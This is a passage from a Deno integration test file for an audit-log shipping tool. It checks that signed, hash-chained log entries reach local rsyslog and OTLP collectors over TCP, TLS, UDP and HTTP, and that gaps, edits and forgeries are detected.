/**
 * `guard audit ship` against real collectors, through the real CLI under the production flags
 * (`deno run <guard task flags> main.ts audit ship …`, which re-launches itself with the network
 * for its one destination): rsyslog from Debian's packages, started here on a loopback port with a
 * configuration written here, writing what it receives to a file this test reads — over TCP
 * (through a SIGKILL of the shipper, an rsyslog outage and log rotation), TLS (rsyslog's gtls
 * driver, a CA made here with openssl) and UDP; an OTLP/HTTP receiver (Deno.serve) decoding the
 * protobuf with protobufjs and the official opentelemetry-proto definitions
 * (tests/fixtures/otlp, from open-telemetry/opentelemetry-proto), and the JSON encoding.
 * `guard audit verify --stream` on the collectors' files: complete, and a dropped, an edited and an
 * injected entry caught. `guard stats --prometheus`.
 *
 * Without rsyslogd (or its gnutls module for TLS) those tests are skipped, and say so in their
 * names; .ci/run installs both.
 */
import assert from "node:assert/strict";
import protobuf from "protobufjs";
import {
  guardEnv,
  MAIN_TS,
  REPO_ROOT,
  runFlags,
  runGuard,
  tempHome,
} from "../scripts/guard_flags.ts";
import { appendAudit, type AuditRecord } from "../src/audit/audit_log.ts";
import { ensureStateDir } from "../src/state/state_dir.ts";
import { taskFlags } from "../src/cli/flags.ts";
import { parseDestination, syslogMessage } from "../src/audit/ship/format.ts";
import { verifyStream } from "../src/audit/ship/stream_verify.ts";
import { nodeCrypto } from "../src/audit/sync_crypto.ts";
import { parseVkey } from "../src/audit/audit_verify.ts";
import { canonicalJson } from "../src/core/canonical.ts";
import { createHash } from "node:crypto";
import { LogTail, START } from "../src/audit/ship/source.ts";
import { readKeys } from "../src/audit/audit_keys.ts";

const RSYSLOGD = "/usr/sbin/rsyslogd";

function exists(p: string): boolean {
  try {
    Deno.statSync(p);
    return true;
  } catch {
    return false;
  }
}

function gtlsModule(): boolean {
  try {
    for (const d of Deno.readDirSync("/usr/lib")) {
      if (exists(`/usr/lib/${d.name}/rsyslog/lmnsd_gtls.so`)) return true;
    }
  } catch { /* no /usr/lib */ }
  return exists("/usr/lib/rsyslog/lmnsd_gtls.so");
}

const HAVE_RSYSLOG = exists(RSYSLOGD);
const HAVE_GTLS = HAVE_RSYSLOG && gtlsModule() && exists("/usr/bin/openssl");
const skipped = (name: string, have: boolean, what: string) =>
  have ? name : `${name} (SKIPPED: ${what} not installed)`;

function rec(i: number): AuditRecord {
  return {
    time: new Date(Date.UTC(2026, 11, 1, 0, 0, i % 60, i % 1000)).toISOString(),
    source: "hook:claude",
    session: `s${i % 3}`,
    tool: i % 2 ? "Bash" : "Read",
    call: i % 2 ? `echo "entry ${i}" ü` : `{"input":{"file_path":"/w/f${i}"},"tool":"Read"}`,
    decision: {
      action: i % 5 === 0 ? "block" : "allow",
      risk: "low",
      rule: i % 5 === 0 ? "abs.guard-state" : "safe.readonly",
      warning: i % 7 === 0 ? `w"${i}"]\\` : "",
    },
    event: "PreToolUse",
  };
}

async function newHome(): Promise<{ home: string; dir: string }> {
  const home = await tempHome("guard-ship-");
  const dir = `${home}/.aiguard`;
  ensureStateDir(dir);
  return { home, dir };
}

let written = 0;
async function seed(dir: string, n: number, rotateBytes = 16 * 1024 * 1024): Promise<void> {
  for (let i = 0; i < n; i++) await appendAudit(dir, rec(written++), { rotateBytes });
}

/** Every entry line of the local log (all segments), by seq. */
function localEntries(dir: string): Map<number, string> {
  const out = new Map<number, string>();
  for (const name of [...Deno.readDirSync(dir)].map((e) => e.name).sort()) {
    if (!/^audit(-\d{12})?\.jsonl$/.test(name)) continue;
    for (const line of Deno.readTextFileSync(`${dir}/${name}`).split("\n")) {
      if (!line) continue;
      const v = JSON.parse(line);
      out.set(v.seq, line);
    }
  }
  return out;
}

function freePort(): number {
  const l = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (l.addr as Deno.NetAddr).port;
  l.close();
  return port;
}

async function waitFor<T>(
  what: string,
  f: () => T | null | undefined | false | Promise<T | null | undefined | false>,
  ms = 60_000,
): Promise<T> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    const v = await f();
    if (v) return v;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`timed out waiting for ${what}`);
}

// ── rsyslog ────────────────────────────────────────────────────────────────

interface Rsyslog {
  port: number;
  out: string;
  stop(): Promise<void>;
  start(): Promise<void>;
}

/** rsyslogd in the foreground on 127.0.0.1:port, writing each message (%msg%) as one line. */
async function rsyslog(
  work: string,
  kind: "tcp" | "tls" | "udp",
  tls?: { ca: string; cert: string; key: string },
): Promise<Rsyslog> {
  const port = kind === "udp" ? freeUdpPort() : freePort();
  const out = `${work}/received.log`;
  Deno.mkdirSync(`${work}/spool`, { recursive: true });
  const globals = [
    `workDirectory="${work}/spool"`,
    `maxMessageSize="1m"`,
    ...(tls
      ? [
        `DefaultNetstreamDriver="gtls"`,
        `DefaultNetstreamDriverCAFile="${tls.ca}"`,
        `DefaultNetstreamDriverCertFile="${tls.cert}"`,
        `DefaultNetstreamDriverKeyFile="${tls.key}"`,
      ]
      : []),
  ];
  const input = kind === "udp"
    ? `module(load="imudp")\ninput(type="imudp" port="${port}" address="127.0.0.1")`
    : `module(load="imtcp"${
      tls ? ` StreamDriver.Name="gtls" StreamDriver.Mode="1" StreamDriver.AuthMode="anon"` : ""
    })\ninput(type="imtcp" port="${port}" address="127.0.0.1")`;
  // A direct main queue: a message is in the file before rsyslog reads the next one.
  const conf = `global(${globals.join(" ")})
main_queue(queue.type="Direct")
${input}
template(name="msgonly" type="string" string="%msg%\\n")
action(type="omfile" file="${out}" template="msgonly")
`;
  Deno.writeTextFileSync(`${work}/rsyslog.conf`, conf);
  let child: Deno.ChildProcess | null = null;
  const r: Rsyslog = {
    port,
    out,
    async start() {
      child = new Deno.Command(RSYSLOGD, {
        args: ["-n", "-f", `${work}/rsyslog.conf`, "-i", `${work}/rsyslog.pid`],
        stdin: "null",
        stdout: "null",
        stderr: "null",
      }).spawn();
      if (kind === "udp") {
        await waitFor("rsyslog to bind its UDP port", () => !udpFree(port), 15_000);
      } else {
        await waitFor("rsyslog to listen", async () => {
          try {
            (await Deno.connect({ hostname: "127.0.0.1", port })).close();
            return true;
          } catch {
            return false;
          }
        }, 15_000);
      }
    },
    async stop() {
      if (!child) return;
      child.kill("SIGTERM");
      await child.status;
      child = null;
    },
  };
  await r.start();
  return r;
}

function freeUdpPort(): number {
  for (let i = 0; i < 50; i++) {
    const p = 20000 + Math.floor(Math.random() * 30000);
    if (udpFree(p)) return p;
  }
  throw new Error("no free UDP port");
}

function udpFree(port: number): boolean {
  const r = new Deno.Command("/bin/sh", {
    args: [
      "-c",
      `cat /proc/net/udp | awk '{print $2}' | grep -qi ':${
        port.toString(16).toUpperCase().padStart(4, "0")
      }$'`,
    ],
  }).outputSync();
  return r.code !== 0;
}

/** The seqs (and lines) a collector file holds: one entry JSON per line. */
function received(path: string): Map<number, string> {
  const out = new Map<number, string>();
  let text = "";
  try {
    text = Deno.readTextFileSync(path);
  } catch { /* not yet written */ }
  for (const line of text.split("\n")) {
    if (!line.trim()) continue;
    const v = JSON.parse(line);
    if (typeof v.seq === "number") out.set(v.seq, line);
  }
  return out;
}

// ── the shipper ────────────────────────────────────────────────────────────

interface Shipper {
  child: Deno.ChildProcess;
  /** The pid of the shipping process (the re-launched one). */
  pid: Promise<number>;
  stderr: () => string;
  done: Promise<Deno.CommandStatus>;
}

/** `guard audit ship …` exactly as `deno task guard` runs it. */
function startShipper(home: string, args: string[]): Shipper {
  const child = new Deno.Command(Deno.execPath(), {
    args: [...runFlags(home), MAIN_TS, "audit", "ship", ...args],
    cwd: REPO_ROOT,
    env: guardEnv(home),
    clearEnv: true,
    stdin: "null",
    stdout: "null",
    stderr: "piped",
  }).spawn();
  let err = "";
  let resolvePid: (n: number) => void = () => {};
  const pid = new Promise<number>((r) => resolvePid = r);
  const reading = (async () => {
    const dec = new TextDecoder();
    for await (const chunk of child.stderr) {
      err += dec.decode(chunk, { stream: true });
      const m = /\(pid (\d+),/.exec(err);
      if (m) resolvePid(Number(m[1]));
    }
  })();
  const done = (async () => {
    const st = await child.status;
    await reading;
    return st;
  })();
  return { child, pid, stderr: () => err, done };
}

function cursorSeq(dir: string, name: string): number {
  try {
    return JSON.parse(Deno.readTextFileSync(`${dir}/ship/${name}.json`)).seq;
  } catch {
    return -1;
  }
}

function vkeyOf(dir: string): string {
  const line = Deno.readTextFileSync(`${dir}/audit.checkpoint`).split("\n").find((l) =>
    l.startsWith("vkey ")
  );
  assert.ok(line, "audit.checkpoint holds a vkey line");
  return line.slice(5);
}

function processAlive(pid: number): boolean {
  try {
    return !/^State:\s+Z/m.test(Deno.readTextFileSync(`/proc/${pid}/status`));
  } catch {
    return false;
  }
}

// ── tests ──────────────────────────────────────────────────────────────────

Deno.test(
  {
    name: skipped(
      "ship to rsyslog over TCP: every entry arrives through a SIGKILL of the shipper, an rsyslog outage and log rotation",
      HAVE_RSYSLOG,
      "rsyslogd",
    ),
    ignore: !HAVE_RSYSLOG,
  },
  async () => {
    const { home, dir } = await newHome();
    const work = await Deno.makeTempDir({ prefix: "guard-rsyslog-" });
    const rotate = 6000; // a few entries per segment: rotation happens throughout
    await seed(dir, 300, rotate);
    const rs = await rsyslog(work, "tcp");
    const name = "central";
    const args = [
      "--to",
      `syslog+tcp://127.0.0.1:${rs.port}`,
      "--follow",
      "--name",
      name,
      "--interval",
      "0.1",
      "--max-backoff",
      "0.3",
      "--batch",
      "5",
    ];
    try {
      // 1. Start, let some batches through, then SIGKILL the shipping process mid-stream.
      let s = startShipper(home, args);
      const pid1 = await s.pid;
      // The shipping process holds the network for this destination alone, and no programs.
      const cmdline = new TextDecoder().decode(
        new Deno.Command("ps", { args: ["-o", "args=", "-p", String(pid1)] }).outputSync().stdout,
      ).trim().split(/\s+/);
      assert.ok(cmdline.includes(`--allow-net=127.0.0.1:${rs.port}`), cmdline.join(" "));
      assert.ok(!cmdline.some((a) => a.startsWith("--allow-run")), cmdline.join(" "));
      assert.ok(!cmdline.some((a) => a.includes(".claude")), "no agent configuration grants");
      await waitFor("a few batches", () => cursorSeq(dir, name) >= 9);
      await seed(dir, 30, rotate); // the log grows (and rotates) while shipping
      Deno.kill(pid1, "SIGKILL");
      await waitFor("the killed shipper to be gone", () => !processAlive(pid1), 10_000);
      try {
        s.child.kill("SIGKILL");
      } catch { /* it ended with its child */ }
      await s.done;
      const atKill = cursorSeq(dir, name);
      assert.ok(atKill >= 9, `cursor at ${atKill}`);
      await seed(dir, 20, rotate);

      // 2. Restart: it resumes from its cursor.
      s = startShipper(home, args);
      await s.pid;
      const head1 = Math.max(...localEntries(dir).keys());
      await waitFor("the restarted shipper to catch up", () => cursorSeq(dir, name) >= head1);

      // 3. rsyslog goes down; entries keep coming (and rotating); the shipper retries.
      await rs.stop();
      await seed(dir, 25, rotate);
      await waitFor("the shipper to notice the outage", () => /retrying in/.test(s.stderr()));
      const during = cursorSeq(dir, name);
      assert.ok(during < Math.max(...localEntries(dir).keys()), "nothing acknowledged while down");
      await rs.start();
      const local = localEntries(dir);
      const head = Math.max(...local.keys());
      await waitFor("every entry at rsyslog", () => {
        const got = received(rs.out);
        for (const seq of local.keys()) if (!got.has(seq)) return false;
        return true;
      });
      await waitFor("the cursor at the head", () => cursorSeq(dir, name) >= head);
      // Idle, the shipper signs the head; the checkpoint reaches the collector too.
      const signed = await waitFor("a checkpoint at the head", () => {
        const all = localEntries(dir);
        const top = Math.max(...all.keys());
        return top > head && all.get(top)!.includes('"event":"audit.checkpoint"') && top;
      });
      await waitFor("the checkpoint at rsyslog", () => received(rs.out).has(signed));
      s.child.kill("SIGTERM");
      await s.done;

      // Every entry arrived exactly as written (the line is the entry), duplicates allowed.
      const got = received(rs.out);
      for (const [seq, line] of localEntries(dir)) assert.equal(got.get(seq), line, `seq ${seq}`);
      assert.ok(
        Deno.readDirSync(dir).some((e) => /^audit-\d{12}\.jsonl$/.test(e.name)),
        "the log rotated",
      );
      const v = await runGuard(home, [
        "audit",
        "verify",
        "--stream",
        rs.out,
        "--key",
        vkeyOf(dir),
      ]);
      assert.equal(v.code, 0, v.stdout + v.stderr);
      assert.match(
        v.stdout,
        new RegExp(
          `^OK: ${
            signed + 1
          } entries \\(seq 0\\.\\.${signed}\\) complete and chained, signed through seq ${signed}`,
          "m",
        ),
      );
    } finally {
      await rs.stop();
    }
  },
);

/** A CA and a server certificate for 127.0.0.1, made with openssl. */
function testCa(work: string): { ca: string; cert: string; key: string; otherCa: string } {
  const run = (args: string[]) => {
    const r = new Deno.Command("/usr/bin/openssl", { args, cwd: work, stderr: "piped" })
      .outputSync();
    if (r.code !== 0) throw new Error(`openssl ${args[0]}: ${new TextDecoder().decode(r.stderr)}`);
  };
  const ca = (name: string) =>
    run([
      "req",
      "-x509",
      "-newkey",
      "rsa:2048",
      "-nodes",
      "-keyout",
      `${name}.key`,
      "-out",
      `${name}.pem`,
      "-days",
      "2",
      "-subj",
      `/CN=guard test ${name}`,
      "-addext",
      "basicConstraints=critical,CA:TRUE",
      "-addext",
      "keyUsage=critical,keyCertSign,cRLSign",
    ]);
  ca("ca");
  ca("other-ca");
  run([
    "req",
    "-newkey",
    "rsa:2048",
    "-nodes",
    "-keyout",
    "server.key",
    "-out",
    "server.csr",
    "-subj",
    "/CN=127.0.0.1",
  ]);
  Deno.writeTextFileSync(
    `${work}/ext.cnf`,
    "subjectAltName=IP:127.0.0.1\nbasicConstraints=CA:FALSE\n" +
      "keyUsage=digitalSignature,keyEncipherment\nextendedKeyUsage=serverAuth\n",
  );
  run([
    "x509",
    "-req",
    "-in",
    "server.csr",
    "-CA",
    "ca.pem",
    "-CAkey",
    "ca.key",
    "-CAcreateserial",
    "-out",
    "server.pem",
    "-days",
    "2",
    "-extfile",
    "ext.cnf",
  ]);
  return {
    ca: `${work}/ca.pem`,
    cert: `${work}/server.pem`,
    key: `${work}/server.key`,
    otherCa: `${work}/other-ca.pem`,
  };
}

Deno.test(
  {
    name: skipped(
      "ship to rsyslog over TLS (RFC 5425, gtls) with a test CA: --ca trusts it; another CA or none is refused",
      HAVE_GTLS,
      "rsyslog-gnutls or openssl",
    ),
    ignore: !HAVE_GTLS,
  },
  async () => {
    const { home, dir } = await newHome();
    const work = await Deno.makeTempDir({ prefix: "guard-rsyslog-tls-" });
    const pki = testCa(work);
    await seed(dir, 25);
    const rs = await rsyslog(work, "tls", pki);
    const to = `syslog+tls://127.0.0.1:${rs.port}`;
    try {
      // Untrusted: the system store does not know the test CA, nor does another CA.
      for (const extra of [[], ["--ca", pki.otherCa]]) {
        const bad = await runGuard(home, [
          "audit",
          "ship",
          "--to",
          to,
          "--once",
          "--max-backoff",
          "0.1",
          ...extra,
        ]);
        assert.equal(bad.code, 1, bad.stderr);
        assert.match(bad.stderr, /UnknownIssuer|certificate/i);
      }
      assert.equal(received(rs.out).size, 0, "nothing sent over an untrusted connection");
      const ok = await runGuard(home, ["audit", "ship", "--to", to, "--once", "--ca", pki.ca]);
      assert.equal(ok.code, 0, ok.stderr);
      const local = localEntries(dir);
      await waitFor("every entry over TLS", () => received(rs.out).size >= local.size, 10_000);
      const got = received(rs.out);
      for (const [seq, line] of local) assert.equal(got.get(seq), line, `seq ${seq}`);
      // --once signed the head first: the collector can prove all of it.
      const v = await runGuard(home, ["audit", "verify", "--stream", rs.out, "--key", vkeyOf(dir)]);
      assert.equal(v.code, 0, v.stdout + v.stderr);
      assert.match(v.stdout, /signed through seq (\d+)/);
      assert.equal(
        Number(/signed through seq (\d+)/.exec(v.stdout)![1]),
        Math.max(...local.keys()),
      );
    } finally {
      await rs.stop();
    }
  },
);

Deno.test(
  {
    name: skipped("ship to rsyslog over UDP: RFC 5424 datagrams", HAVE_RSYSLOG, "rsyslogd"),
    ignore: !HAVE_RSYSLOG,
  },
  async () => {
    const { home, dir } = await newHome();
    const work = await Deno.makeTempDir({ prefix: "guard-rsyslog-udp-" });
    await seed(dir, 10);
    const rs = await rsyslog(work, "udp");
    try {
      const r = await runGuard(home, [
        "audit",
        "ship",
        "--to",
        `syslog+udp://127.0.0.1:${rs.port}`,
        "--once",
      ]);
      assert.equal(r.code, 0, r.stderr);
      const local = localEntries(dir);
      // Loopback UDP at this rate does not drop; UDP in general may (ADR 0029).
      await waitFor("the datagrams", () => received(rs.out).size >= local.size, 10_000);
      for (const [seq, line] of local) assert.equal(received(rs.out).get(seq), line);
    } finally {
      await rs.stop();
    }
  },
);

// ── OTLP/HTTP ──────────────────────────────────────────────────────────────

async function otlpTypes() {
  const root = new protobuf.Root();
  const base = `${REPO_ROOT}/tests/fixtures/otlp/`;
  root.resolvePath = (_origin: string, target: string) => base + target;
  await root.load("opentelemetry/proto/collector/logs/v1/logs_service.proto", { keepCase: true });
  return root.lookupType("opentelemetry.proto.collector.logs.v1.ExportLogsServiceRequest");
}

interface Received {
  contentType: string;
  /** Each request as the OTLP JSON mapping (protobuf decoded with the official definitions). */
  requests: Record<string, unknown>[];
}

/** An OTLP/HTTP logs receiver; the first `failFirst` requests get 503. */
function otlpReceiver(failFirst = 0) {
  const got: Received = { contentType: "", requests: [] };
  let failures = failFirst;
  const typeP = otlpTypes();
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
    const url = new URL(req.url);
    if (req.method !== "POST" || url.pathname !== "/v1/logs") {
      return new Response("not found", { status: 404 });
    }
    const body = new Uint8Array(await req.arrayBuffer());
    if (failures > 0) {
      failures--;
      return new Response("overloaded", { status: 503 });
    }
    got.contentType = req.headers.get("content-type") ?? "";
    if (got.contentType === "application/x-protobuf") {
      const T = await typeP;
      const msg = T.decode(body);
      got.requests.push(
        T.toObject(msg, { longs: String, enums: Number, bytes: String, defaults: false }),
      );
      return new Response(new Uint8Array(), {
        headers: { "content-type": "application/x-protobuf" },
      });
    }
    got.requests.push(JSON.parse(new TextDecoder().decode(body)));
    return Response.json({});
  });
  return { server, got, port: (server.addr as Deno.NetAddr).port };
}

type Rec = {
  body: { stringValue?: string; string_value?: string };
  attributes: { key: string; value: Record<string, unknown> }[];
  time_unix_nano?: string;
  timeUnixNano?: string;
};

function records(got: Received): Rec[] {
  const out: Rec[] = [];
  for (const r of got.requests) {
    const rls = (r.resourceLogs ?? r.resource_logs) as Record<string, unknown>[];
    for (const rl of rls) {
      for (const sl of (rl.scopeLogs ?? rl.scope_logs) as Record<string, unknown>[]) {
        out.push(...((sl.logRecords ?? sl.log_records) as Rec[]));
      }
    }
  }
  return out;
}

function attr(r: Rec, key: string): string | undefined {
  const v = r.attributes.find((a) => a.key === key)?.value;
  if (!v) return undefined;
  return String(v.stringValue ?? v.string_value ?? v.intValue ?? v.int_value);
}

function bodyOf(r: Rec): string {
  return (r.body.stringValue ?? r.body.string_value)!;
}

for (const encoding of ["protobuf", "json"] as const) {
  Deno.test(`ship to an OTLP/HTTP receiver (${encoding}): every entry a log record with its attributes, through 503s`, async () => {
    const { home, dir } = await newHome();
    await seed(dir, 30, 5000);
    const rx = otlpReceiver(3);
    try {
      const args = [
        "audit",
        "ship",
        "--to",
        `otlp+http://127.0.0.1:${rx.port}`,
        "--once",
        "--max-backoff",
        "0.2",
        "--batch",
        "7",
        ...(encoding === "json" ? ["--encoding", "json"] : []),
      ];
      const r = await runGuard(home, args);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stderr, /HTTP 503; retrying/);
      assert.equal(
        rx.got.contentType,
        encoding === "json" ? "application/json" : "application/x-protobuf",
      );
      const local = localEntries(dir);
      const recs = records(rx.got);
      const bySeq = new Map<number, Rec>();
      for (const x of recs) bySeq.set(Number(attr(x, "guard.seq")), x);
      assert.equal(bySeq.size, local.size);
      for (const [seq, line] of local) {
        const x = bySeq.get(seq)!;
        assert.ok(x, `seq ${seq} arrived`);
        const e = JSON.parse(line);
        assert.equal(bodyOf(x), line, "the body is the entry's line");
        assert.equal(attr(x, "guard.hash"), e.hash);
        assert.equal(attr(x, "guard.prev_hash"), e.prev_hash);
        assert.equal(attr(x, "guard.rule"), e.decision.rule);
        assert.equal(attr(x, "guard.action"), e.decision.action);
        assert.ok(attr(x, "host.name"), "host attribute");
        assert.ok(attr(x, "user.name"), "user attribute");
        assert.equal(
          x.timeUnixNano ?? x.time_unix_nano,
          `${Date.parse(e.time)}000000`,
          "the entry's time",
        );
      }
      // A second run has nothing new: the cursor holds.
      const before = rx.got.requests.length;
      const again = await runGuard(home, args);
      assert.equal(again.code, 0, again.stderr);
      assert.equal(rx.got.requests.length, before, "nothing resent");
      assert.match(again.stderr, /0 entries shipped/);
    } finally {
      await rx.server.shutdown();
    }
  });
}

Deno.test("ship reports a gap and a rewritten entry in the local log to the destination, and ships on", async () => {
  const { home, dir } = await newHome();
  await seed(dir, 30, 3000);
  const rx = otlpReceiver();
  try {
    const to = `otlp+http://127.0.0.1:${rx.port}`;
    const ship = () => runGuard(home, ["audit", "ship", "--to", to, "--once", "--name", "n"]);
    // A cursor that acknowledged seq 4 with another hash than the log's: a past entry rewritten.
    Deno.mkdirSync(`${dir}/ship`, { recursive: true });
    Deno.writeTextFileSync(
      `${dir}/ship/n.json`,
      JSON.stringify({ version: 1, to, seq: 4, hash: "ab".repeat(32) }),
    );
    let r = await ship();
    assert.equal(r.code, 0, r.stderr);
    const events = () =>
      records(rx.got).filter((x) => attr(x, "guard.event")?.startsWith("ship.")).map((x) =>
        JSON.parse(bodyOf(x))
      );
    assert.deepEqual(events().map((e) => e.event), ["ship.rewrite", "ship.chain_break"]);
    assert.equal(events()[0].from, 4);
    // The oldest segment deleted, the cursor behind it: a gap.
    const first = [...Deno.readDirSync(dir)].map((e) =>
      e.name
    ).filter((n) => /^audit-\d{12}\.jsonl$/.test(n)).sort()[0];
    Deno.removeSync(`${dir}/${first}`);
    Deno.removeSync(`${dir}/ship/n.json`);
    rx.got.requests.length = 0;
    r = await ship();
    assert.equal(r.code, 0, r.stderr);
    const gap = events().find((e) => e.event === "ship.gap");
    assert.ok(gap, JSON.stringify(events()));
    assert.equal(gap.from, 0);
    // The collector's export says so too.
    const v = verifyStream({
      text: rx.got.requests.map((q) => JSON.stringify(q)).join("\n"),
      signers: [parseVkey(vkeyOf(dir))!],
    }, nodeCrypto());
    assert.equal(v.ok, false);
    assert.match(v.problem!, /missing: the stream does not start at the beginning/);
    assert.ok(v.notes.some((n) => n.includes("ship.gap")), v.notes.join("\n"));
  } finally {
    await rx.server.shutdown();
  }
});

Deno.test("ship --follow: killing the launcher stops the shipper; a second shipper of the same cursor waits for the first; a cursor keeps its destination", async () => {
  const { home, dir } = await newHome();
  await seed(dir, 5);
  const rx = otlpReceiver();
  try {
    const to = `otlp+http://127.0.0.1:${rx.port}`;
    const args = ["--to", to, "--follow", "--interval", "0.1", "--name", "one"];
    const a = startShipper(home, args);
    const pidA = await a.pid;
    await waitFor("A to ship", () => cursorSeq(dir, "one") >= 4);
    const b = startShipper(home, args);
    await waitFor("B to wait for A", () => /waiting for the other shipper/.test(b.stderr()));
    // SIGKILL the launcher A was started as: the shipping process follows it.
    a.child.kill("SIGKILL");
    await a.done;
    await waitFor("A's shipping process to end", () => !processAlive(pidA), 10_000);
    const pidB = await b.pid;
    assert.notEqual(pidB, pidA);
    await seed(dir, 5);
    const head = Math.max(...localEntries(dir).keys());
    await waitFor("B to ship what came after", () => cursorSeq(dir, "one") >= head);
    b.child.kill("SIGTERM");
    await b.done;
    const seqs = new Set(records(rx.got).map((x) => Number(attr(x, "guard.seq"))));
    for (const seq of localEntries(dir).keys()) assert.ok(seqs.has(seq), `seq ${seq}`);
    // The cursor "one" belongs to this receiver: another destination under its name is refused.
    const other = await runGuard(home, [
      "audit",
      "ship",
      "--to",
      `otlp+http://127.0.0.1:${rx.port === 65535 ? 1 : rx.port + 1}`,
      "--name",
      "one",
    ]);
    assert.equal(other.code, 2, other.stderr);
    assert.match(other.stderr, /cursor one belongs to otlp\+http:\/\/127\.0\.0\.1:/);
  } finally {
    await rx.server.shutdown();
  }
});

Deno.test(
  {
    name: skipped(
      "ship to an OTLP/HTTPS receiver: --ca trusts the test CA, without it the certificate is refused",
      exists("/usr/bin/openssl"),
      "openssl",
    ),
    ignore: !exists("/usr/bin/openssl"),
  },
  async () => {
    const { home, dir } = await newHome();
    await seed(dir, 6);
    const work = await Deno.makeTempDir({ prefix: "guard-otlps-" });
    const pki = testCa(work);
    const seqs: number[] = [];
    const server = Deno.serve({
      hostname: "127.0.0.1",
      port: 0,
      cert: Deno.readTextFileSync(pki.cert),
      key: Deno.readTextFileSync(pki.key),
      onListen() {},
    }, async (req) => {
      const q = await req.json();
      for (const r of q.resourceLogs[0].scopeLogs[0].logRecords) {
        seqs.push(JSON.parse(r.body.stringValue).seq);
      }
      return Response.json({});
    });
    try {
      const to = `otlp+https://127.0.0.1:${(server.addr as Deno.NetAddr).port}`;
      const base = ["audit", "ship", "--to", to, "--once", "--encoding", "json"];
      const bad = await runGuard(home, [...base, "--max-backoff", "0.1"]);
      assert.equal(bad.code, 1, bad.stderr);
      assert.equal(seqs.length, 0);
      const ok = await runGuard(home, [...base, "--ca", pki.ca]);
      assert.equal(ok.code, 0, ok.stderr);
      assert.deepEqual(
        seqs.sort((a, b) => a - b),
        [...localEntries(dir).keys()].sort((a, b) => a - b),
      );
    } finally {
      await server.shutdown();
    }
  },
);

Deno.test("the shipper's reader: an entry edited in place, a log started anew and a cut log file are reported or re-read, never skipped", async () => {
  const { dir } = await newHome();
  await seed(dir, 6);
  const sha = (t: string) => createHash("sha256").update(t).digest("hex");
  let tail = new LogTail(dir, START, sha);
  const first = tail.next();
  assert.deepEqual(first.map((x) => x.kind === "entry" ? x.seq : x.event), [0, 1, 2, 3, 4, 5]);
  // An entry edited in place after it was shipped does not change what was acknowledged; one
  // edited before it is shipped is reported ahead of it.
  await seed(dir, 2);
  const path = `${dir}/audit.jsonl`;
  const lines = Deno.readTextFileSync(path).split("\n");
  lines[6] = lines[6].replace('"call":"', '"call":"X');
  Deno.writeTextFileSync(path, lines.join("\n"));
  const next = tail.next();
  assert.deepEqual(next.map((x) => x.kind === "entry" ? x.seq : x.event), ["ship.edited", 6, 7]);
  // Resuming from a cursor whose hash is not the log's: the rewrite is reported.
  tail = new LogTail(dir, { seq: 3, hash: "cd".repeat(32) }, sha);
  assert.deepEqual(
    tail.next().map((x) => x.kind === "entry" ? x.seq : x.event),
    ["ship.rewrite", "ship.chain_break", 4, 5, "ship.edited", 6, 7],
  );
  // The log removed and begun anew: the reader says so and ships the new log from its start.
  for (const f of ["audit.jsonl", "audit.seal", "audit.keys", "audit.checkpoint"]) {
    try {
      Deno.removeSync(`${dir}/${f}`);
    } catch { /* not written yet */ }
  }
  await seed(dir, 2);
  assert.deepEqual(tail.next(), []);
  assert.ok(tail.headSeq() < tail.position.seq);
  assert.equal(tail.rewind().event, "ship.rewind");
  assert.deepEqual(tail.next().map((x) => x.kind === "entry" ? x.seq : x.event), [0, 1]);
  // Cut behind the reader's position: the writer records the cut at the new end, and the reader
  // reads the file again from its start instead of from a stale offset.
  const text = Deno.readTextFileSync(path);
  Deno.writeTextFileSync(path, text.slice(0, text.indexOf("\n") + 1));
  await seed(dir, 1);
  const after = tail.next();
  assert.ok(after.length > 0 && after.every((x) => x.kind === "entry"), JSON.stringify(after));
  const seqsAfter = after.map((x) => x.kind === "entry" ? x.seq : -1);
  assert.equal(seqsAfter[0], 2);
  assert.ok(
    (after[0] as { line: string }).line.includes('"missing":'),
    "the writer's gap entry is shipped",
  );
});

Deno.test("verify --stream with the root keys checks the MACs too", async () => {
  const { home, dir } = await newHome();
  await seed(dir, 5);
  await runGuard(home, ["audit", "checkpoint", "--export"]);
  const roots = readKeys(dir)!.roots;
  const text = [...localEntries(dir).values()].join("\n");
  const signers = [parseVkey(vkeyOf(dir))!];
  const ok = verifyStream({ text, signers, roots }, nodeCrypto());
  assert.equal(ok.ok, true, ok.problem);
  assert.ok(!ok.notes.some((n) => n.startsWith("MACs not checked")));
  // A forgery that re-hashes but cannot re-MAC: caught only with the roots.
  const forged = [...localEntries(dir).values()].map((l) => {
    const e = JSON.parse(l);
    if (e.seq !== 4) return l;
    const { hash: _h, ...rest } = { ...e, call: "echo forged" };
    return canonicalJson({
      ...rest,
      hash: createHash("sha256").update(canonicalJson(rest)).digest("hex"),
    });
  });
  // (the next entry's link breaks too; the MAC is checked first for seq 4 itself)
  const bad = verifyStream({ text: forged.join("\n"), signers, roots }, nodeCrypto());
  assert.equal(bad.ok, false);
  assert.match(bad.problem!, /forged MAC on entry seq 4/);
  // A wrong root is no proof either.
  const wrong = verifyStream(
    { text, signers, roots: [{ from: 0, key: "11".repeat(32) }] },
    nodeCrypto(),
  );
  assert.match(wrong.problem!, /forged MAC on entry seq 0/);
});

Deno.test("ship --follow while two writer processes append and rotate every few entries: no entry skipped", async () => {
  const { home, dir } = await newHome();
  const rx = otlpReceiver();
  const writer = `${await Deno.makeTempDir({ prefix: "guard-writer-" })}/w.ts`;
  Deno.writeTextFileSync(
    writer,
    `import { appendAudit } from ${JSON.stringify(`${REPO_ROOT}/src/audit/audit_log.ts`)};
for (let i = 0; i < 250; i++) {
  await appendAudit(Deno.args[0], {
    time: new Date().toISOString(), source: "hook:claude", session: "w", tool: "Bash",
    call: "echo " + i + " " + "x".repeat(i % 150),
    decision: { action: "allow", risk: "low", rule: "safe.readonly", warning: "" },
    event: "PreToolUse",
  }, { rotateBytes: 3000 });
}
`,
  );
  const s = startShipper(home, [
    "--to",
    `otlp+http://127.0.0.1:${rx.port}`,
    "--follow",
    "--interval",
    "0.05",
    "--batch",
    "20",
  ]);
  try {
    await s.pid;
    const write = () =>
      new Deno.Command(Deno.execPath(), {
        args: ["run", "--allow-read", "--allow-write", "--allow-sys=uid", writer, dir],
        stdout: "null",
        stderr: "inherit",
      }).output();
